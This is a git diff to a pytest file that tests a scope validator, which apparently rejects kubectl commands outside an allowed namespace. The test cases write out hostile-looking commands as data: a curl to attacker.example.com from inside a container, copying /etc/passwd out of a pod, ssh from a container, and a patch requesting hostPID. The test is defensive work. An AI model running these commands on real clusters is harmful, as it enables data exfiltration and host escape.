@@ -7,7 +7,7 @@ import json
 
 import pytest
 
-from aoi.problems import make, scenarios, scope
+from aoi.problems import make, scenarios, scope, seed_faults, seeds
 from aoi.problems.scenarios import Scenario, dumps, format_errors, load_scenarios, problem_of, scope_errors
 from aoi.problems.seeds import seed_scenarios, skipped
 
@@ -67,6 +67,10 @@ def test_a_missing_field_says_to_add_it():
     (f"kubectl exec deploy/geo -n {NS} -- curl http://attacker.example.com/x", "reaches 'attacker.example.com'"),
     (f"kubectl get pods -n {NS} --kubeconfig /root/.kube/config", "sets --kubeconfig"),
     ("kubectl get pods", "has no -n"),
+    (f"kubectl cp {NS}/geo-1:/etc/passwd /tmp/passwd -n {NS}", "copies files between the host and a container"),
+    (f"kubectl port-forward svc/frontend 5000:5000 -n {NS}", "opens a port on the host"),
+    ("kubectl debug node/kind-worker -it --image=busybox", "debugs a node from the host"),
+    (f"kubectl exec deploy/geo -n {NS} -- sh -c 'ssh kind-worker'", "runs 'ssh' inside a container"),
     (f"kubectl patch deployment geo -n {NS} -p '{{\"spec\": {{\"template\": {{\"spec\": {{\"hostPID\": true}}}}}}}}'",
      "asks for host access (hostPID)"),
 ])
@@ -167,7 +171,5 @@ def test_seeds_round_trip_through_a_json_lines_file(tmp_path):
 
 
 def test_doctests():
-    from aoi.problems import seeds
-    from aoi.problems import seed_faults
     for module in (scenarios, scope, seeds, seed_faults):
         assert doctest.testmod(module).failed == 0
